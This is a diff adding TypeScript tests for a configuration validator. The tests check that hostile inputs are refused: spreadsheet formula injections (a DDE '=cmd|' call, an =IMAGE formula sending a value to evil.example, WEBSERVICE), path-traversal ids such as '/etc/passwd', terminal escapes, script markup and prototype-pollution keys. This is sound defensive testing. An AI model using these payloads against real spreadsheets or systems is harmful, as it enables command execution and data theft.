@@ -56,6 +56,14 @@ test.each<readonly [path: readonly (string | number)[], value: unknown, message:
   [["columns", "opportunities", "name"], { hidden: true }, "columns.opportunities.name.hidden: names the row and cannot be hidden"],
   [["rows", "competitors", 0, "nothing"], 1, "rows.competitors[0].nothing: “nothing” is no column to be filled"],
   [["locks", "sheets", 0], "nowhere", "locks.sheets[0]: “nowhere” is no sheet"],
+  [["mappings", "deals"], {}, "mappings.deals: “deals” is no table"],
+  [["mappings", "opportunities", "Betrag"], "sum", "mappings.opportunities.Betrag: “sum” is no column to be filled"],
+  [
+    ["mappings", "opportunities", "Betrag"],
+    { dates: "day-first" },
+    'mappings.opportunities.Betrag: {"dates":"day-first"} is no column to be filled',
+  ],
+  [["mappings", "opportunities", "Betrag"], "commission", "mappings.opportunities.Betrag: “commission” is no column to be filled"],
 ])("%j: %j", (path, value, message) => expect(said(withAt(path, value)).join("\n")).toContain(message));
 
 test("in Chinese as well", () =>
@@ -90,4 +98,82 @@ test("an earlier format is brought forward by its migrations, one after the othe
   };
   const { name: title, ...old } = acmeJson();
   expect(readDocument({ ...old, title, state: "old", format: -1 }, steps)).toEqual({ kind: "read", document: acmeDocument() });
+});
+
+test("files may be read into columns of the method and of the company, and into none", () => {
+  const opportunities = { Betrag: "amount", Gebiet: { column: "region" }, Chef: "owner.first", Phase: "stage, kept", Id: "record id" };
+  expect(said(withAt(["mappings"], { opportunities }))).toEqual([]);
+});
+
+describe("what is made to harm is refused, and said where", () => {
+  const formula = (text: string): string => said(withAt(["ownColumns", "opportunities", 1, "formula"], text)).join("\n");
+
+  test.each([
+    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("https://evil.example")',
+    '=IMAGE("https://evil.example/"&{amount})',
+    "=FILTERXML(1,2)",
+    '=CALL("a","b")',
+    '=INDIRECT("A1")',
+    "=A1",
+    "=$A:$A",
+    "=Table1[Amount]",
+    "='[other.xlsx]Sheet1'!A1",
+    "=KAM_Words",
+    "=LET(a,1,a)",
+    "=LAMBDA(x,x)(1)",
+    "={1;2}",
+    "=@{amount}",
+    "={amount}#",
+    "=_xlfn.WEBSERVICE(1)",
+    "+1",
+    "@SUM(1)",
+  ])("a formula %s", (text) => expect(formula(text)).toContain("ownColumns.opportunities[1].formula: "));
+
+  test("a circle of columns that compute from each other, at each of them", () => {
+    const column = (id: string, reads: string) => ({ id, header: id, kind: "number", formula: `={${reads}}+1` });
+    const circle = [column("a", "b"), column("b", "c"), column("c", "a"), column("d", "a")];
+    expect(said(withAt(["ownColumns"], { opportunities: circle }))).toEqual(
+      [0, 1, 2].map((index) => `ownColumns.opportunities[${index.toString()}].formula: computes from itself`),
+    );
+  });
+
+  test.each(["../acme", "..", "/etc/passwd", "a/b", "a\\b", "C:", "acme.json", "ACME", "a b", "", "-", "a--b", "x".repeat(61)])(
+    "an id %j",
+    (id) => expect(said({ ...acmeJson(), id })[0]).toMatch(/^id: /),
+  );
+
+  test.each(["=1", "+1", "-1", "@x", "a\u0000", "\u001b[2J"])("a text %j, wherever it stands", (text) => {
+    for (const path of [["name"], ["purpose", "zh"], ["process", "stages", 0, "label"], ["guidance", "opportunities"]])
+      expect(said(withAt(path, text)).join("\n")).toContain(path[0]);
+    expect(said(withAt(["rows", "competitors", 0, "competitor"], text))).toHaveLength(1);
+  });
+
+  test("markup is a text like any other", () => expect(said({ ...acmeJson(), name: "<script>alert(1)</script>" })).toEqual([]));
+
+  test.each<readonly [what: string, path: readonly (string | number)[], value: unknown, message: string]>([
+    ["stages", ["process", "stages"], Array.from({ length: 8 }, () => ({})), "process.stages: has more than 7 entries"],
+    [
+      "own columns",
+      ["ownColumns", "opportunities"],
+      Array.from({ length: 31 }, () => ({})),
+      "ownColumns.opportunities: has more than 30 entries",
+    ],
+    ["words", ["ownColumns", "opportunities", 0, "words"], Array.from({ length: 61 }, () => "x"), "words: has more than 60 entries"],
+    ["languages", ["languages"], ["en", "zh", "en"], "languages: has more than 2 entries"],
+    ["characters", ["purpose", "en"], "x".repeat(1001), "purpose.en: has more than 1000 characters"],
+    ["a picture", ["look", "logo"], `iVBORw0KGgo${"A".repeat(200_000)}`, "look.logo: has more than 200000 characters"],
+    ["another kind of picture", ["look", "logo"], "PHN2Zz4=", "look.logo: "],
+  ])("too many or too large: %s", (_what, path, value, message) => expect(said(withAt(path, value)).join("\n")).toContain(message));
+
+  test("names that every object has are no tables, columns or words", () => {
+    for (const name of ["__proto__", "constructor", "toString"]) {
+      const odd = JSON.parse(`{"${name}":{"x":{"hidden":true}}}`) as unknown;
+      for (const part of ["columns", "numbers", "words", "mappings", "rows", "ownColumns"]) {
+        const problems = said({ ...acmeJson(), [part]: odd });
+        // What JSON calls __proto__ is left out by the reading.
+        expect(problems).toEqual(name === "__proto__" ? [] : [expect.stringContaining(`${part}.${name}`)]);
+      }
+    }
+  });
 });
